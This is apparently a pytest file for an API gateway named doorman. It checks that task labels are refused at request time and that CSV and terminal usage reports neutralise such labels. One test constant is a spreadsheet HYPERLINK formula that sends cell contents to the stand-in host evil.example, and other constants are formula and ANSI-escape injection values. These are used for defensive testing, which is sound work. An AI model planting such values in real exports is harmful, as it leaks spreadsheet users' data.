"""Output injection into reports: caller-controlled text must stay inert in CSV and terminals.

The review wrote a task label ``=HYPERLINK(...)`` verbatim into ``ledger export --format csv`` and
``usage --csv``, and rich markup in a label rewrote what ``doorman usage`` showed.
"""

from __future__ import annotations

import asyncio
import csv
import io
from pathlib import Path

import httpx
import pytest
from hostile_kit import new_key, zero_config

from harness import Proc, run_cli

__all__ = ["zero_config"]

FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
MARKUP = "[bold red]ALL BUDGETS EXCEEDED[/]"
BODY = {"model": "sim-small", "messages": [{"role": "user", "content": "hi"}], "max_tokens": 3}


@pytest.mark.parametrize(
    "label", [FORMULA, MARKUP, "+1", "-2+3", "@SUM(A1)", "\tx", "a\x1b[2Jb", "x" * 65, "ok,then"]
)
def test_task_labels_outside_the_charset_are_refused_with_the_field_named(
    zero_config: Proc, label: str
) -> None:
    key = new_key(zero_config)
    headers = {"authorization": f"Bearer {key}"}
    if label.isascii() and label.isprintable():  # what an HTTP client lets through a header
        by_header = httpx.post(f"{zero_config.url}/v1/chat/completions", json=BODY,
                               headers={**headers, "x-doorman-task": label})  # fmt: skip
        assert by_header.status_code == 400, by_header.text
        assert by_header.json()["error"]["code"] == "invalid_task_label"
        assert by_header.json()["error"]["param"] == "x-doorman-task"
    anthropic = httpx.post(
        f"{zero_config.url}/v1/messages",
        json={**BODY, "model": "sim-claude", "metadata": {"task": label}},
        headers=headers,
    )
    assert anthropic.status_code == 400, anthropic.text
    assert anthropic.json()["type"] == "error"
    assert "metadata.task" in anthropic.json()["error"]["message"]


def test_a_plain_task_label_is_accepted_and_reported(zero_config: Proc) -> None:
    key = new_key(zero_config)
    r = httpx.post(f"{zero_config.url}/v1/chat/completions", json=BODY,
                   headers={"authorization": f"Bearer {key}", "x-doorman-task": "triage: inbox/2"})  # fmt: skip
    assert r.status_code == 200, r.text


def _seed_legacy_rows(db: Path) -> None:
    """Rows written before labels were checked (or by another tool): what reports must survive."""
    from doorman.db.engine import create_engine
    from doorman.db.migrate import upgrade_async
    from doorman.ledger import Ledger, LedgerRow

    async def main() -> None:
        url = f"sqlite+aiosqlite:///{db}"
        await upgrade_async(url)
        engine = create_engine(url)
        ledger = Ledger(engine)
        await ledger.start()
        try:
            for i, (user, task) in enumerate([("alice", FORMULA), ("bob", MARKUP), ("carol", "-1")]):
                await ledger.record(LedgerRow(
                    request_id=f"req-{i}", key_id="k1", user_id=user, tier="pro", task=task,
                    requested_model="sim-small", served_model="sim-small", provider="sim",
                    input_tokens=10, output_tokens=5, cost_usd=0.001, latency_ms=5.0, status=200,
                ))  # fmt: skip
        finally:
            await ledger.close()
            await engine.dispose()

    asyncio.run(main())


def test_reports_neutralise_formulas_and_markup_from_ledger_data(tmp_path: Path) -> None:
    _seed_legacy_rows(tmp_path / "doorman.db")
    config = tmp_path / "doorman.yaml"
    config.write_text(f"database_url: sqlite+aiosqlite:///{tmp_path}/doorman.db\n")
    bad_start = ("=", "+", "-", "@", "\t", "\r")

    export = run_cli(tmp_path, "ledger", "export", "--format", "csv", "--config", str(config))
    cells = [cell for row in list(csv.reader(io.StringIO(export.stdout)))[1:] for cell in row]
    assert "'" + FORMULA in cells and "'-1" in cells
    assert not [c for c in cells if c.startswith(bad_start)]

    usage = run_cli(tmp_path, "usage", "--by", "task", "--csv", "--config", str(config))
    usage_cells = [cell for row in csv.reader(io.StringIO(usage.stdout)) for cell in row]
    assert "'" + FORMULA in usage_cells
    assert not [c for c in usage_cells if c.startswith(bad_start)]

    table = run_cli(tmp_path, "usage", "--by", "task", "--config", str(config),
                    env={"COLUMNS": "400"})  # fmt: skip
    assert MARKUP in table.stdout  # shown literally, not turned into styling
